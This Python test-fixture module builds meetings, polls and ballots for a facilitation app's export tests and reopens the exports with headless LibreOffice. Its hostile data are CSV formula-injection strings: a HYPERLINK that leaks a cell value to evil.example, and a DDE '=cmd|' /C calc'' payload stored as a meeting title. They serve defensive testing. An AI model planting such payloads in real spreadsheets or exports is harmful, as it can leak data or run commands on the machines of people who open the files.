"""Fixtures for export tests: hostile meetings, and LibreOffice to reopen what we write."""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import uuid
from dataclasses import replace
from pathlib import Path

from facilitator.domain.model import (
    Attendance,
    Ballot,
    Channel,
    Idea,
    IdeaStatus,
    Meeting,
    Poll,
    PollMethod,
    PollOption,
)
from facilitator.storage import Workspace
from facilitator.storage.sync_state import ItemKind, SyncLink

#: Texts a spreadsheet might run as formulas. Ideas are stripped, so tab/CR go in the notes.
HOSTILE_IDEAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "=1+1",
)
HOSTILE_NOTES = "\t=1+2 notes with a leading tab"


def add_hostile_meeting(ws: Workspace, language: str = "fr") -> Meeting:
    """A meeting whose ideas, options and notes are formula-injection attempts."""
    meeting = ws.meetings.create(
        Meeting(
            title="=cmd|' /C calc'!A0",
            place="@Salle des fêtes",
            language=language,
        )
    )
    ideas = [
        ws.ideas.add(Idea(meeting_id=meeting.id, text=t, theme="-moins")) for t in HOSTILE_IDEAS
    ]
    ws.attendance.save(Attendance(meeting_id=meeting.id, headcount=12, notes=HOSTILE_NOTES))
    poll = ws.polls.create_from_ideas(meeting.id, "+Quelle idée ?", PollMethod.SINGLE, ideas[:3])
    ws.polls.open(poll.id)
    for n in range(5):
        ws.ballots.cast(
            Ballot(
                poll_id=poll.id,
                voter=f"secret-voter-{n}",
                channel=Channel.PHONE,
                content={"option": poll.options[n % 3].id},
            )
        )
    return meeting


def add_english_meeting(ws: Workspace) -> Meeting:
    meeting = ws.meetings.create(Meeting(title="Park renovation", place="Town hall", language="en"))
    ws.ideas.add(Idea(meeting_id=meeting.id, text="More benches along the river path"))
    ws.polls.create(
        Poll(
            meeting_id=meeting.id,
            question="Which first?",
            method=PollMethod.SINGLE,
            options=(PollOption(label="Benches"), PollOption(label="Lights")),
        )
    )
    return replace(meeting)


def run_facilitator(*args: str) -> subprocess.CompletedProcess[str]:
    """``python -m facilitator ARGS`` in a child process (offscreen Qt, English messages);
    it must succeed. A child keeps the report's QGuiApplication away from the widget tests."""
    env = {**os.environ, "FACILITATOR_LANG": "en", "QT_QPA_PLATFORM": "offscreen"}
    proc = subprocess.run(
        [sys.executable, "-m", "facilitator", *args],
        capture_output=True,
        text=True,
        timeout=120,
        env=env,
        check=False,
    )
    assert proc.returncode == 0, proc.stderr
    return proc


def soffice_convert(
    source: Path, target_format: str, outdir: Path, infilter: str | None = None
) -> Path:
    """Open ``source`` in headless LibreOffice and save it as ``target_format`` in ``outdir``.

    ``infilter`` gives the import filter and its options (for a CSV: separator, encoding,
    locale), as the import dialog would.
    """
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    assert soffice is not None, "needs LibreOffice (scripts/system-deps test installs it)"
    outdir.mkdir(parents=True, exist_ok=True)
    profile = outdir.parent / f"lo-profile-{uuid.uuid4().hex}"
    completed = subprocess.run(
        [
            soffice,
            f"-env:UserInstallation={profile.as_uri()}",
            "--headless",
            "--norestore",
            *([f"--infilter={infilter}"] if infilter else []),
            "--convert-to",
            target_format,
            "--outdir",
            str(outdir),
            str(source),
        ],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    shutil.rmtree(profile, ignore_errors=True)
    produced = outdir / f"{source.stem}.{target_format.split(':')[0]}"
    assert produced.exists(), f"LibreOffice did not convert {source}: {completed.stderr}"
    return produced


#: Questions of :func:`add_unrevealed_meeting`'s polls, by what the room saw.
NEVER_REVEALED = "Quel nom pour le square ?"
REVEALED = "Faut-il une fontaine ?"
LIVE = "Un marché le mercredi ?"


def add_unrevealed_meeting(ws: Workspace) -> Meeting:
    """Three closed polls: results hidden and never revealed, hidden then revealed, and live."""
    from facilitator.domain.model import ResultsVisibility

    meeting = ws.meetings.create(Meeting(title="Square Jean-Moulin"))
    for question, visibility, reveal in (
        (NEVER_REVEALED, ResultsVisibility.HIDDEN, False),
        (REVEALED, ResultsVisibility.HIDDEN, True),
        (LIVE, ResultsVisibility.LIVE, False),
    ):
        poll = ws.polls.create(
            Poll(
                meeting_id=meeting.id,
                question=question,
                method=PollMethod.SINGLE,
                options=(PollOption(label="Square des Tilleuls"), PollOption(label="Square Rosa")),
                visibility=visibility,
            )
        )
        ws.polls.open(poll.id)
        for n in range(3):
            ws.ballots.cast(
                Ballot(
                    poll_id=poll.id,
                    voter=f"phone-{n}",
                    channel=Channel.PHONE,
                    content={"option": poll.options[0 if n else 1].id},
                )
            )
        ws.polls.close(poll.id)
        if reveal:
            ws.polls.reveal(poll.id)
    return meeting


PLATFORM = "https://participez.example.fr"
LINK = f"{PLATFORM}/processes/place/f/13/meetings/3"


def link_as_synced(ws: Workspace, meeting: Meeting) -> dict[str, str]:
    """Sync's state as after a sync: linked to a process's components, every kept idea sent.
    Returns each kept idea's text and the address its proposal should show."""
    ws.sync_state.save_link(
        SyncLink(
            meeting.id,
            PLATFORM,
            "12",
            "fr",
            meetings_component="13",
            remote_meeting_id="3",
            space_kind="process",
            space_slug="place",
        )
    )
    kept = [i for i in ws.ideas.for_meeting(meeting.id) if i.status is IdeaStatus.KEPT]
    ws.sync_state.mark_sent(
        meeting.id, ItemKind.PROPOSAL, [(i.id, str(700 + n)) for n, i in enumerate(kept)]
    )
    return {
        i.text: f"{PLATFORM}/processes/place/f/12/proposals/{700 + n}" for n, i in enumerate(kept)
    }
